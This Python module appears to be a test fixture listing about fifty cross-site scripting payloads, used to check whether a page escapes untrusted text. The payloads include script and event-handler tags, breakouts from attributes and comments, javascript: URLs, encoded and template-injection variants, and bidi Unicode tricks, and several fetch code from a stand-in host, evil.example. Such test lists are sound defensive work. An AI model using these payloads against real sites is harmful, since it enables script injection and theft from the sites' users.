"""Texts that would become markup or script where a page forgot to escape them.

Each that runs calls `pwned()`, fetches from evil.example, or leaves an element of the class `pwned`.
"""

PAYLOADS = [
    # Elements.
    "<script>pwned()</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>pwned()</scr</script>ipt>",
    "<script>/*</script><script>*/pwned()</script>",
    "<script type=module>import('//evil.example/x.js')</script>",
    "<img class=pwned src=x onerror=pwned()>",
    "<img/class=pwned/src=`x`/onerror=pwned()>",
    "<svg class=pwned onload=pwned()>",
    "<svg><script href=data:,pwned() /></svg>",
    "<svg><animate onbegin=pwned() attributeName=x dur=1s>",
    "<math><mi xlink:href=javascript:pwned()>x</mi></math>",
    "<iframe class=pwned srcdoc='<script>parent.pwned()</script>'>",
    "<object data=javascript:pwned()><embed src=javascript:pwned()>",
    "<details class=pwned open ontoggle=pwned()>",
    "<video class=pwned><source onerror=pwned()></video>",
    "<body onload=pwned()>",
    "<input class=pwned autofocus onfocus=pwned()>",
    "<marquee class=pwned onstart=pwned()>x</marquee>",
    "<style>@import '//evil.example/x.css'; body { display: none }</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0; url=//evil.example/'>",
    "<form class=pwned action=//evil.example/><button>Go</button></form>",
    "<template><script>pwned()</script></template>",
    "<x-pwned class=pwned style=animation-name:x onanimationstart=pwned()>",
    # Out of an attribute, an element, a comment.
    "\"><script>pwned()</script>",
    "'><script>pwned()</script>",
    "\" autofocus onfocus=pwned() x=\"",
    "' onmouseover='pwned()' x='",
    "` onmouseover=pwned() x=`",
    "</title><script>pwned()</script>",
    "</textarea><script>pwned()</script>",
    "</option></select><img class=pwned src=x onerror=pwned()>",
    "</bdi></a></h2><b class=pwned>out</b>",
    "--><script>pwned()</script><!--",
    "]]><script>pwned()</script><![CDATA[",
    "</script><script>pwned()</script>",
    "<!--<img class=pwned src=x onerror=pwned()>-->",
    # Addresses.
    "javascript:pwned()",
    "<a class=pwned href=javascript:pwned()>x</a>",
    "<a class=pwned href='java&#10;script:pwned()'>x</a>",
    "data:text/html,<script>pwned()</script>",
    "//evil.example/?q=",
    # Entities, encodings, templates.
    "&lt;script&gt;pwned()&lt;/script&gt;",
    "&#60;script&#62;pwned()&#60;/script&#62;",
    "%3Cscript%3Epwned()%3C/script%3E",
    "\\u003cscript\\u003epwned()\\u003c/script\\u003e",
    "{{constructor.constructor('pwned()')()}}${pwned()}<%= pwned() %>",
    # Letters that change what stands around them.
    "\u202e\u2066<script>pwned()</script>\u2069 exe.txt",
    "\uff1cscript\uff1epwned()\uff1c/script\uff1e\ufeff\u200b",
]
